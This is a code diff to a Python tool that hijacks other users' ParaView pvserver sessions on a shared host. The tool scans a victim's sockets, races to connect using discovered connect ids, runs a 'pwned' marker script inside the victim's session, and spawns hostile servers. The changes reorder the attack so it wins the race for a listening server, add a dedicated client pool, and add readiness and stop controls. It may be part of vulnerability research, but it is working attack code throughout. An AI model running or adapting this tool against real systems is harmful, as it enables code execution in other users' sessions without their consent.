@@ -479,7 +479,6 @@ CLIENT_WORKER = r"""
 import json, os, sys, time
 from paraview import servermanager as sm
 from paraview.modules.vtkRemotingCore import vtkProcessModule, vtkRemotingCoreConfiguration
-import paraview.simple as simple
 # pvpython replaces sys.stdin and sys.stdout: talk over the file descriptors themselves.
 requests = open(0, "r", closefd=False)
 def print(text, flush=True):
@@ -494,6 +493,7 @@ for line in requests:
     if ok:
         print(json.dumps(dict(res, stage="handshake")))
         try:
+            import paraview.simple as simple  # 2 s to import: only once in (the server waits)
             conn = sm.GetConnectionFromId(vtkProcessModule.GetProcessModule().RegisterSession(session))
             sm.SetActiveConnection(conn)
             simple._initializeSession(conn)
@@ -519,10 +519,15 @@ class ClientPool:
         self.script = script
         self.jobs = queue.PriorityQueue()
         self.seq = 0
+        self.ready = 0
         self.procs = []
         self.plock = threading.Lock()
         for _ in range(size):
             threading.Thread(target=self.worker, daemon=True).start()
+
+    def ready_count(self):
+        with self.plock:
+            return self.ready
 
     def submit(self, url, cid, why, prio=0):
         with self.plock:
@@ -546,6 +551,7 @@ class ClientPool:
 
     def worker(self):
         p = None
+        counted = False
         while not STOP.is_set():
             if p is None or p.poll() is not None:
                 p = self.start_proc()
@@ -554,8 +560,12 @@ class ClientPool:
                     p = None
                     time.sleep(1)
                     continue
+                if not counted:
+                    counted = True
+                    with self.plock:
+                        self.ready += 1
             try:
-                prio, _, url, cid, why = self.jobs.get(timeout=0.2)
+                _, _, url, cid, why = self.jobs.get(timeout=0.2)
             except queue.Empty:
                 continue
             req = {"url": url, "id": cid, "timeout": 2, "hold": 3, "script": self.script}
@@ -566,7 +576,7 @@ class ClientPool:
                 p = None
                 continue
             result = None
-            deadline = time.monotonic() + (15 if prio == 0 else 6)
+            deadline = time.monotonic() + 15
             while time.monotonic() < deadline:
                 line = self.readline(p, deadline - time.monotonic())
                 if not line:
@@ -680,7 +690,11 @@ class Attacker:
         self.args = args
         self.tlock = threading.Lock()
         self.targets = {}
-        self.pool = ClientPool(2, MARKER_SCRIPT % {"marker": args.marker_name, "attacker": "uid %d" % os.getuid()})
+        script = MARKER_SCRIPT % {"marker": args.marker_name, "attacker": "uid %d" % os.getuid()}
+        # Two clients kept for what answers like ParaView (or a hop), one for the rest: a
+        # silent listener holds a client until it gives up, and must not delay the real thing.
+        self.pool = ClientPool(2, script)
+        self.slow_pool = ClientPool(1, script)
         self.servers = HostileServers(3)
         self.bridges = []
 
@@ -713,18 +727,20 @@ class Attacker:
                     v["answer"] = what
         if what == "hop":
             threading.Thread(target=try_hop_keys, args=(kind, addr, port), daemon=True).start()
-        # 1. connect-and-close, a few times
-        for i in range(3):
-            log("probe", mode="close", target=t, result=probe_close(kind, addr, port))
-            time.sleep(0.05)
-        # 2. ParaView, both ways, with no id and every id known now; new ids are tried later.
+        # 1. ParaView, both ways, with no id and every id known now; new ids are tried later.
         # What neither greets nor answers ParaView (MPI's own ports) gets one try without an id.
+        # First, because a listening pvserver takes the first client that knows its id.
         if kind == "unix":
             bridge = self.bridge(addr)
             if bridge is not None:
                 self.speak("127.0.0.1", bridge, t, why, what)
         else:
             self.speak(addr, port, t, why, what)
+        # 2. connect-and-close, a few times
+        time.sleep(0.5)
+        for i in range(3):
+            log("probe", mode="close", target=t, result=probe_close(kind, addr, port))
+            time.sleep(0.05)
         # 3. connect-and-hold, a little later (a listening pvserver serves one connection at a
         # time: holding it first would only keep the attack's own clients out)
         later = threading.Timer(4.0, self.hold, args=(kind, addr, port))
@@ -738,13 +754,14 @@ class Attacker:
                 what = next((v.get("answer") for (k, a, p), v in self.targets.items() if where(k, a, p) == t), None)
         eager = what in ("paraview", "hop", "other", "closed")
         ids = [0] + FOUND.connect_ids() if eager else [0]
-        for cid in ids:
-            if cid in key_ids:
-                continue
-            key_ids.add(cid)
+        host = "[%s]" % addr if ":" in addr else addr
+        todo = [cid for cid in ids if cid not in key_ids]
+        key_ids.update(todo)
+        # the ids found (most likely right) before none
+        for cid in sorted(todo, reverse=True):
+            (self.pool if eager else self.slow_pool).submit("cs://%s:%d" % (host, port), cid, why)
+        for cid in sorted(todo, reverse=True):
             self.servers.launch(addr, port, cid, why)
-            host = "[%s]" % addr if ":" in addr else addr
-            self.pool.submit("cs://%s:%d" % (host, port), cid, why, 0 if eager else 1)
 
     def targets_ids(self, t):
         with self.tlock:
@@ -830,7 +847,14 @@ class Attacker:
         log("start", victim=self.args.victim, victim_uid=victim.pw_uid, uid=os.getuid(), duration=self.args.duration)
         scanner = Scanner(self, victim.pw_uid, victim.pw_dir)
         end = time.monotonic() + self.args.duration
+        ready = False
         while time.monotonic() < end and not STOP.is_set():
+            if self.args.stop_file and os.path.exists(self.args.stop_file):
+                log("stop_file", path=self.args.stop_file)
+                break
+            if not ready and self.pool.ready_count() >= self.pool.size and self.slow_pool.ready_count() >= 1:
+                ready = True
+                log("ready", clients=self.pool.size + self.slow_pool.size)
             try:
                 scanner.once()
                 self.retry_with_new_ids()
@@ -839,6 +863,7 @@ class Attacker:
             STOP.wait(self.args.interval)
         STOP.set()
         self.pool.stop()
+        self.slow_pool.stop()
         with self.servers.plock:
             for p in self.servers.procs:
                 kill(p)
@@ -865,6 +890,7 @@ def main():
     p.add_argument("--interval", type=float, default=0.05, help="seconds between scans")
     p.add_argument("--hold", type=float, default=10, help="seconds a connect-and-hold probe holds")
     p.add_argument("--marker-name", default="pwned")
+    p.add_argument("--stop-file", help="end as soon as this file exists")
     args = p.parse_args()
     signal.signal(signal.SIGTERM, lambda *_: STOP.set())
     signal.signal(signal.SIGINT, lambda *_: STOP.set())
